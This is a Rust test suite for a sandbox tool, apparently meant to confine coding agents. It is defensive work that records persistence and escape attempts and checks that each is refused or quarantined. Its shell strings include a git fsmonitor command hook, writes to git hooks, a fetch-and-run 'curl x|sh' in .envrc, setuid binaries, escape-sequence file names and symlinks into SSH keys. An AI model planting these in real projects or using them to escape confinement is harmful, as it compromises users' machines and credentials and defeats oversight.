//! Persistence attacks through git metadata, symlinks, special files and
//! `cordon apply` — each one found by reviewing the sandbox, kept as a test.

use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use super::harness::{ok, stderr, stdout, Env};
use crate::both;

/// Replaces the harness's fake `.git` with a real repository.
fn real_repo(env: &Env) {
    std::fs::remove_dir_all(env.project.join(".git")).unwrap();
    let git = |args: &[&str]| {
        let st = Command::new("git")
            .args(["-c", "safe.directory=*"])
            .args(args)
            .current_dir(&env.project)
            .output()
            .unwrap();
        assert!(
            st.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&st.stderr)
        );
    };
    git(&["init", "-q"]);
    git(&[
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@t",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "init",
    ]);
    env.own(&env.project);
}

fn host_git_status(env: &Env) -> String {
    let o = Command::new("git")
        .args(["-c", "safe.directory=*", "status"])
        .current_dir(&env.project)
        .output()
        .unwrap();
    stdout(&o) + &stderr(&o)
}

const COMMONDIR_ATTACK: &str = "mkdir .evil && cp -r .git/objects .git/refs .git/HEAD .evil/ && \
    printf '[core]\\n\\tfsmonitor = \"echo PWNED >&2; false\"\\n' > .evil/config && \
    echo ../.evil > .git/commondir; echo rc=$?";

both!(git_commondir_redirect_is_not_applied, |env| {
    real_repo(env);
    ok(&env.sh(&["--mode", "overlay"], COMMONDIR_ATTACK));
    let o = env.cordon(["apply", "last", "--yes"]).output().unwrap();
    assert!(
        stderr(&o).contains("refused .git/commondir"),
        "{}",
        stderr(&o)
    );
    assert!(!env.project.join(".git/commondir").exists());
    assert!(!host_git_status(env).contains("PWNED"));
});

both!(git_commondir_redirect_is_quarantined_in_rw_mode, |env| {
    real_repo(env);
    let o = env.sh(&["--mode", "rw"], COMMONDIR_ATTACK);
    ok(&o);
    assert!(
        !env.project.join(".git/commondir").exists(),
        "{}",
        stderr(&o)
    );
    assert!(env
        .last_session()
        .join("quarantine/.git/commondir")
        .exists());
    assert!(!host_git_status(env).contains("PWNED"));
});

both!(gitfile_cannot_be_rewritten, |env| {
    std::fs::remove_dir_all(env.project.join(".git")).unwrap();
    std::fs::write(env.project.join(".git"), "gitdir: /nonexistent/worktree\n").unwrap();
    env.own(&env.project);
    for mode in ["rw", "overlay"] {
        let out = ok(&env.sh(
            &["--mode", mode],
            "echo 'gitdir: .evil' > .git 2>/dev/null && echo WROTE; true",
        ));
        assert!(!out.contains("WROTE"), "{mode}: {out}");
    }
    assert_eq!(
        std::fs::read_to_string(env.project.join(".git")).unwrap(),
        "gitdir: /nonexistent/worktree\n"
    );
});

both!(symlinked_hooks_and_hooks_path_are_protected, |env| {
    let p = &env.project;
    std::fs::remove_dir_all(p.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(p.join("githooks")).unwrap();
    std::os::unix::fs::symlink("../githooks", p.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(p.join(".husky")).unwrap();
    std::fs::write(
        p.join(".git/config"),
        "[core]\n\tbare = false\n\thooksPath = .husky\n",
    )
    .unwrap();
    env.own(&env.project);
    let out = ok(&env.sh(
        &["--mode", "rw"],
        "for f in .git/hooks/pre-commit githooks/pre-commit .husky/pre-commit; do \
         (echo evil > $f) 2>/dev/null && echo WROTE $f; done; true",
    ));
    assert!(!out.contains("WROTE"), "{out}");
    assert!(!p.join("githooks/pre-commit").exists() && !p.join(".husky/pre-commit").exists());
});

both!(fifos_and_unreadable_dirs_are_masked, |env| {
    let p = &env.project;
    std::fs::remove_file(p.join(".env")).unwrap();
    let st = Command::new("mkfifo").arg(p.join(".env")).status().unwrap();
    assert!(st.success());
    std::fs::create_dir_all(p.join("locked")).unwrap();
    std::fs::write(p.join("locked/.env"), "SECRET=topsecret\n").unwrap();
    env.own(&env.project);
    std::fs::set_permissions(p.join("locked"), std::fs::Permissions::from_mode(0o000)).unwrap();
    std::fs::write(p.join("vault.txt"), "SECRET=modezero\n").unwrap();
    env.own(&env.project);
    std::fs::set_permissions(p.join("vault.txt"), std::fs::Permissions::from_mode(0o000)).unwrap();
    let o = env.sh(
        &["--mode", "overlay"],
        "timeout 3 cat .env; echo fifo=$?; chmod 700 locked 2>/dev/null; cat locked/.env 2>&1; \
         chmod 600 vault.txt 2>/dev/null; cat vault.txt 2>&1; true",
    );
    let out = stdout(&o);
    std::fs::set_permissions(p.join("locked"), std::fs::Permissions::from_mode(0o700)).unwrap();
    // Masked: refused at once, instead of blocking on the pipe (124).
    assert!(out.contains("fifo=1"), "{out}");
    assert!(!out.contains("topsecret"), "{out}");
    assert!(!out.contains("modezero"), "{out}");
});

both!(quarantine_never_follows_an_agent_symlink, |env| {
    let p = &env.project;
    std::fs::remove_dir_all(p.join(".git")).unwrap();
    let victim = env.home.join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    std::fs::write(victim.join("config"), "precious\n").unwrap();
    env.own(&env.project);
    env.own(&victim);
    let o = env.sh(
        &["--mode", "rw"],
        &format!("ln -s {} .git", victim.display()),
    );
    ok(&o);
    assert_eq!(
        std::fs::read_to_string(victim.join("config")).unwrap(),
        "precious\n",
        "{}",
        stderr(&o)
    );
    // The planted link itself is what moved out of the project.
    assert!(
        std::fs::symlink_metadata(p.join(".git")).is_err(),
        "{}",
        stderr(&o)
    );
});

both!(grants_cannot_cover_cordons_own_directories, |env| {
    for dir in [&env.config, &env.state] {
        env.refused(
            &["--allow-write", dir.to_str().unwrap()],
            "overlaps cordon's own directory",
        );
    }
});

both!(apply_escapes_names_and_drops_setuid, |env| {
    let o = env.sh(
        &["--mode", "overlay"],
        "printf x > \"$(printf 'zz\\r\\033[2Aevil')\"; echo '#!/bin/sh' > tool; chmod 6755 tool; \
         mkdir -p sub/.git && echo x > sub/.git/config; echo 'curl x|sh' > sub/.envrc",
    );
    ok(&o);
    let stat = ok(&env.cordon(["diff", "last", "--stat"]).output().unwrap());
    assert!(stat.contains("zz\\x0d\\x1b[2Aevil"), "{stat:?}");
    assert!(!stat.contains('\u{1b}'), "raw escape in output: {stat:?}");
    let diff = ok(&env.cordon(["diff", "last"]).output().unwrap());
    assert!(diff.contains("new file mode 106755"), "{diff}");
    let o = env.cordon(["apply", "last", "--yes"]).output().unwrap();
    assert_eq!(
        o.status.code(),
        Some(1),
        "some changes are refused: {}",
        stderr(&o)
    );
    let err = stderr(&o);
    assert!(err.contains("control characters"), "{err}");
    assert!(
        err.contains("refused sub/.envrc") && err.contains("refused sub/.git/config"),
        "{err}"
    );
    let mode = std::fs::metadata(env.project.join("tool"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(
        mode & 0o7777,
        0o755,
        "setuid/setgid must not reach the host"
    );
    assert!(!env.project.join("sub/.envrc").exists());
});

both!(apply_refuses_links_in_git_and_planted_bare_repos, |env| {
    real_repo(env);
    let o = env.sh(
        &["--mode", "overlay"],
        "ln -s /tmp/victim .git/refs/heads/evil; echo garbage > .git/HEAD; \
         for d in sub .; do mkdir -p $d/objects $d/refs; touch $d/objects/.keep $d/refs/.keep; \
         echo 'ref: refs/heads/main' > $d/HEAD; \
         printf '[core]\\n\\tfsmonitor = \"echo PWNED >&2; false\"\\n' > $d/config; done",
    );
    ok(&o);
    let o = env.cordon(["apply", "last", "--yes"]).output().unwrap();
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains("refused .git/refs/heads/evil: a symlink"),
        "{err}"
    );
    assert!(err.contains("refused .git/HEAD: HEAD is neither"), "{err}");
    assert!(
        err.contains("refused sub/HEAD") && err.contains("refused HEAD"),
        "{err}"
    );
    assert!(!env.project.join("sub/HEAD").exists() && !env.project.join("HEAD").exists());
    assert!(!host_git_status(env).contains("PWNED"));
    let o = Command::new("git")
        .args(["-c", "safe.directory=*", "status"])
        .current_dir(env.project.join("sub"))
        .output()
        .unwrap();
    assert!(!(stdout(&o) + &stderr(&o)).contains("PWNED"));
});

both!(
    rw_mode_quarantines_new_repos_envrc_and_restores_head,
    |env| {
        real_repo(env);
        let head = std::fs::read(env.project.join(".git/HEAD")).unwrap();
        let o = env.sh(
            &["--mode", "rw"],
            "mkdir -p sub && git init -q sub && echo 'curl x|sh' > sub/.envrc && \
         echo garbage > .git/HEAD && ln -s /tmp/x .git/refs/heads/evil; echo ok",
        );
        assert_eq!(ok(&o).trim(), "ok");
        let p = &env.project;
        assert!(
            !p.join("sub/.git").exists() && !p.join("sub/.envrc").exists(),
            "{}",
            stderr(&o)
        );
        assert!(std::fs::symlink_metadata(p.join(".git/refs/heads/evil")).is_err());
        assert_eq!(
            std::fs::read(p.join(".git/HEAD")).unwrap(),
            head,
            "{}",
            stderr(&o)
        );
        let q = env.last_session().join("quarantine");
        assert!(q.join("sub/.git").exists() && q.join("sub/.envrc").exists());
    }
);

both!(git_config_paths_are_protected_in_every_form, |env| {
    let p = &env.project;
    std::fs::create_dir_all(p.join("githooks")).unwrap();
    std::fs::write(
        p.join(".git/config"),
        "[core] hooksPath = ./githooks\n[include]\n\tpath = ../.gitconfig\n",
    )
    .unwrap();
    std::fs::write(p.join(".gitconfig"), "[user]\n\tname = x\n").unwrap();
    // A dangling protected symlink: its target must not be creatable.
    std::fs::remove_dir_all(p.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink("../missing-hooks", p.join(".git/hooks")).unwrap();
    env.own(&env.project);
    for mode in ["rw", "overlay"] {
        let out = ok(&env.sh(
            &["--mode", mode],
            "(echo evil > githooks/pre-commit) 2>/dev/null && echo WROTE-hooks; \
             (echo '[core] fsmonitor = x' >> .gitconfig) 2>/dev/null && echo WROTE-include; \
             (mkdir -p missing-hooks && echo evil > missing-hooks/pre-commit) 2>/dev/null && echo WROTE-dangling; true",
        ));
        assert!(
            !out.contains("WROTE-hooks") && !out.contains("WROTE-include"),
            "{mode}: {out}"
        );
        if mode == "overlay" {
            assert!(!out.contains("WROTE-dangling"), "{mode}: {out}");
        }
    }
    // rw mode could create the dangling target; it is moved out afterwards.
    assert!(!p.join("missing-hooks").exists());
    assert!(!p.join("githooks/pre-commit").exists());
});

both!(
    cordon_dirs_are_refused_as_project_and_through_symlinks,
    |env| {
        env.refused(
            &["--project", env.config.to_str().unwrap()],
            "overlaps cordon's own directory",
        );
        // A home entry that is a symlink into cordon's state is refused too.
        std::os::unix::fs::symlink(&env.state, env.home.join("state-link")).unwrap();
        env.profile(
            "sneaky",
            "extends = \"default\"\n[home]\nwrite = [\"state-link\"]\n",
        );
        env.refused(&["--profile", "sneaky"], "overlaps cordon's own directory");
    }
);

both!(parents_of_protected_paths_cannot_be_swapped, |env| {
    let p = &env.project;
    std::fs::create_dir_all(p.join(".github/hooks")).unwrap();
    std::fs::write(
        p.join(".git/config"),
        "[core]\n\thooksPath = .github/hooks\n",
    )
    .unwrap();
    env.own(&env.project);
    let out = ok(&env.sh(
        &["--mode", "rw"],
        "mv .github .github_old 2>/dev/null && echo MOVED; \
         mkdir -p .github/hooks; (echo evil > .github/hooks/pre-commit) 2>/dev/null && echo WROTE; true",
    ));
    assert!(!out.contains("MOVED") && !out.contains("WROTE"), "{out}");
    assert!(!p.join(".github/hooks/pre-commit").exists());
});

both!(home_grants_never_follow_links_into_credentials, |env| {
    // An earlier session turned a dotfile into a link to the SSH key.
    std::fs::remove_file(env.home.join(".gitconfig")).unwrap();
    std::os::unix::fs::symlink(".ssh/id_ed25519", env.home.join(".gitconfig")).unwrap();
    env.profile(
        "dots",
        "extends = \"default\"\n[home]\nread = [\".gitconfig\"]\n",
    );
    let o = env
        .cordon([
            "run",
            "--no-tty",
            "--profile",
            "dots",
            "--",
            "cat",
            ".gitconfig",
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125), "{}", stdout(&o));
    assert!(!stdout(&o).contains(crate::suite::harness::CANARY));
    assert!(stderr(&o).contains("holds credentials"), "{}", stderr(&o));
});

both!(grant_symlinks_are_checked_everywhere_under_home, |env| {
    let h = &env.home;
    let run = |profile: &str| {
        env.cordon(["run", "--no-tty", "--profile", profile, "--", "true"])
            .output()
            .unwrap()
    };
    // A toolchain directory granted by a built-in profile, turned into a link.
    std::fs::create_dir_all(h.join(".local")).unwrap();
    std::os::unix::fs::symlink("../.ssh", h.join(".local/bin")).unwrap();
    let o = run("codex");
    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
    assert!(stderr(&o).contains("holds credentials"), "{}", stderr(&o));
    std::fs::remove_file(h.join(".local/bin")).unwrap();
    // A dotfile linked to a directory holding secrets, or to the home itself.
    std::fs::remove_file(h.join(".gitconfig")).unwrap();
    env.profile(
        "dots",
        "extends = \"default\"\n[home]\nread = [\".gitconfig\"]\n",
    );
    for target in [".local/share", "."] {
        std::fs::create_dir_all(h.join(".local/share/keyrings")).unwrap();
        let _ = std::fs::remove_file(h.join(".gitconfig"));
        std::os::unix::fs::symlink(target, h.join(".gitconfig")).unwrap();
        let o = run("dots");
        assert_eq!(o.status.code(), Some(125), "{target}: {}", stderr(&o));
    }
    // Naming a credential file explicitly stays possible, links included.
    std::fs::create_dir_all(h.join(".kube/configs")).unwrap();
    std::fs::write(h.join(".kube/configs/dev.yaml"), "kind: Config\n").unwrap();
    std::os::unix::fs::symlink("configs/dev.yaml", h.join(".kube/config")).unwrap();
    env.own(h);
    env.profile(
        "kube",
        "extends = \"default\"\n[home]\nread = [\".kube/config\"]\n",
    );
    let o = env
        .cordon([
            "run",
            "--no-tty",
            "--profile",
            "kube",
            "--",
            "sh",
            "-c",
            "cat ~/.kube/config",
        ])
        .output()
        .unwrap();
    assert_eq!(ok(&o), "kind: Config\n");
});

both!(shared_directories_cannot_be_granted, |env| {
    let shared = env.home.join("shared");
    std::fs::create_dir_all(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    env.refused(
        &["--allow-read", shared.to_str().unwrap()],
        "shared, world-writable",
    );
});
